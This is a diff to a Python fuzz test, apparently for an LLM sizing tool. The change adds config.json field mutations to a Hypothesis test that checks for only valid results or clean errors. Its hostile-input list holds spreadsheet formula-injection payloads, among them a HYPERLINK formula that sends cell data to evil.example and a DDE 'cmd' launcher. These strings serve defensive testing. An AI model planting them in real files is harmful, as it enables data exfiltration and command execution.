@@ -1,6 +1,7 @@
 """Issue 7: a fuzz test. Valid requirement files are mutated -- keys deleted or misspelt,
 types swapped, hostile strings inserted, numbers pushed to and past their bounds, the YAML
-text itself cut and spliced -- and loaded and sized in-process. The only outcomes allowed
+text itself cut and spliced, the fields of a model's config.json replaced -- and loaded and
+sized in-process. The only outcomes allowed
 are a valid result (whose JSON holds only finite numbers and whose file stem is a safe
 slug) or an :class:`~llmsizer.errors.LlmsizerError` whose message is one line naming the
 file. Anything else -- a traceback -- fails the test (Hypothesis shrinks it to a small case).
@@ -39,6 +40,7 @@ BASES: dict[str, dict[str, Any]] = {
     "example": load_file(EXAMPLE).data,
     "config": load_file(BAD / "config-valid.yaml").data,  # model: models/ok/config.json
 }
+BASES["config"]["workloads"][0]["model"] = "models/fuzz/config.json"
 
 HOSTILE_TEXT = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)",
@@ -83,6 +85,16 @@ text_ops = st.one_of(
     st.tuples(st.just("cut"), st.integers(0, 10**6), st.integers(1, 40)),
     st.tuples(st.just("dup"), st.integers(0, 10**6), st.integers(1, 80)),
 )
+# config.json mutations (the "config" base names models/fuzz/config.json, rewritten per case).
+CONFIG = json.loads((BAD / "models" / "ok" / "config.json").read_text("utf-8"))
+CONFIG_KEYS = [*CONFIG, "num_local_experts", "num_experts_per_tok", "moe_intermediate_size",
+               "kv_lora_rank", "qk_rope_head_dim", "tie_word_embeddings", "text_config",
+               "num_parameters"]
+CONFIG_VALUES = [0, -1, 1, 2, 8, 7, 64, 10**6, 10**7, 10**12, 10**30, 1.5, 1e300, "8192", None,
+                 True, [], {}, {"hidden_size": 4096}, 2**31, "x" * 300 + "\x1b[31m"]
+config_ops = st.lists(st.tuples(st.sampled_from(CONFIG_KEYS), st.sampled_from(CONFIG_VALUES)),
+                      max_size=4)
+
 # Hostile text that is valid input (one line, printable, at most 200 characters).
 SAFE_HOSTILE = [t for t in HOSTILE_TEXT
                 if t.strip() and len(t) <= 200 and t.isprintable() and "\u202e" not in t]
@@ -94,9 +106,9 @@ mild_ops = st.one_of(
 )
 cases = st.one_of(
     st.tuples(st.sampled_from(sorted(BASES)), st.lists(mild_ops, min_size=1, max_size=6),
-              st.just([])),
+              st.just([]), config_ops),
     st.tuples(st.sampled_from(sorted(BASES)), st.lists(ops, min_size=1, max_size=4),
-              st.one_of(st.just([]), st.lists(text_ops, min_size=1, max_size=2))),
+              st.one_of(st.just([]), st.lists(text_ops, min_size=1, max_size=2)), st.just([])),
 )
 
 
@@ -256,6 +268,7 @@ _NON_FINITE = re.compile(r"\b(?:NaN|-?Infinity)\b")
 def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("fuzz")
     (folder / "models" / "ok").mkdir(parents=True)
+    (folder / "models" / "fuzz").mkdir(parents=True)
     shutil.copy(BAD / "models" / "ok" / "config.json", folder / "models" / "ok" / "config.json")
     return folder
 
@@ -269,8 +282,13 @@ def test_fuzz_only_valid_results_or_clean_errors(workdir: Path,
     @settings(max_examples=EXAMPLES, deadline=None, derandomize=True, database=None,
               suppress_health_check=list(HealthCheck))
     @given(case=cases)
-    def one(case: tuple[str, list[tuple[Any, ...]], list[tuple[Any, ...]]]) -> None:
-        base, changes, text_changes = case
+    def one(case: tuple[str, list[tuple[Any, ...]], list[tuple[Any, ...]],
+                        list[tuple[str, Any]]]) -> None:
+        base, changes, text_changes, config_changes = case
+        config = dict(CONFIG)
+        for key, value in config_changes:
+            config[key] = value
+        (workdir / "models" / "fuzz" / "config.json").write_text(json.dumps(config))
         doc = copy.deepcopy(BASES[base])
         for op in changes:
             mutate(doc, op)
@@ -299,7 +317,8 @@ def test_fuzz_only_valid_results_or_clean_errors(workdir: Path,
 
     one()
     after = sorted(p.relative_to(workdir) for p in workdir.rglob("*"))
-    leaked = len(set(after) - set(before) - {path.relative_to(workdir)})
+    leaked = len(set(after) - set(before) - {path.relative_to(workdir),
+                                             Path("models/fuzz/config.json")})
     corrupted = int((workdir / "models" / "ok" / "config.json").read_bytes()
                     != (BAD / "models" / "ok" / "config.json").read_bytes())
     line = (f"fuzz: {counts['tried']} cases tried, {counts['clean errors']} clean errors, "
